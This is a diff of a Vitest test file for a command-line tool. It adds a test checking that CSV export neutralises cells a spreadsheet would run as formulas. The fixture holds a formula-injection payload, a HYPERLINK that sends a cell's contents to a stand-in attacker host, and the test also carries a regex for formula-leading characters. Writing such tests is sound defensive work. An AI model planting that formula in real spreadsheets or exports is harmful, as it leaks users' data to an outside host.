@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import BetterSqlite3 from 'better-sqlite3-multiple-ciphers';
+import { parse } from 'csv-parse/sync';
 import { jalon, jalonInBackground } from '../helpers/cli';
 import { jsonl, seeker } from '../helpers/journals';
 import { useTempDir } from '../helpers/temp-dir';
@@ -14,7 +15,7 @@ describe('jalon CLI', () => {
   it('documents every command with --help', () => {
     const top = jalon(['--help']);
     expect(top.status).toBe(0);
-    for (const command of ['seed', 'import', 'export', 'stats', 'demo', 'analyze']) {
+    for (const command of ['seed', 'import', 'export', 'stats', 'demo', 'analyze', 'purge']) {
       expect(top.stdout).toContain(command);
       const help = jalon([command, '--help']);
       expect(help.status).toBe(0);
@@ -152,6 +153,45 @@ describe('jalon CLI', () => {
     expect(JSON.parse(csvImport.stdout).imported).toBe(40);
     expect(jalon(['export', '--db', db3, '--out', e3]).status).toBe(0);
     expect(readFileSync(e3)).toEqual(readFileSync(e1));
+  });
+
+  it('export --format csv neutralises cells a spreadsheet would run as formulas, and they import back as they were', () => {
+    const db = join(tempDir(), 'hostile.db');
+    const file = join(tempDir(), 'hostile.jsonl');
+    const formula = '=HYPERLINK("http://attacker.test/?d="&A1,"Camille")';
+    const hostile = seeker('S1', { first_name: formula, last_name: '@Martin' });
+    writeFileSync(file, jsonl([hostile]));
+    expect(jalon(['import', file, '--db', db]).status).toBe(0);
+    const csvDir = join(tempDir(), 'hostile-csv');
+    expect(jalon(['export', '--db', db, '--out', csvDir, '--format', 'csv']).status).toBe(0);
+
+    const seekersCsv = readFileSync(join(csvDir, 'seekers.csv'), 'utf8');
+    const row = seekersCsv.split('\n')[1]!;
+    expect(
+      row.startsWith(`S1,"'=HYPERLINK(""http://attacker.test/?d=""&A1,""Camille"")",'@Martin,`),
+    ).toBe(true);
+    // No cell of either file starts as a formula once the CSV quoting is taken off.
+    const cells = (text: string) => (parse(text) as string[][]).flat();
+    const actionsCsv = readFileSync(join(csvDir, 'actions.csv'), 'utf8');
+    for (const cell of [...cells(seekersCsv), ...cells(actionsCsv)]) {
+      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+
+    const again = join(tempDir(), 'again.db');
+    const back = jalon([
+      'import',
+      join(csvDir, 'seekers.csv'),
+      join(csvDir, 'actions.csv'),
+      '--db',
+      again,
+    ]);
+    expect(back.status).toBe(0);
+    const out = join(tempDir(), 'again.jsonl');
+    expect(jalon(['export', '--db', again, '--out', out]).status).toBe(0);
+    expect(JSON.parse(readFileSync(out, 'utf8'))).toMatchObject({
+      first_name: formula,
+      last_name: '@Martin',
+    });
   });
 
   it('seed --format csv writes the two CSV files, which import like the JSONL', () => {
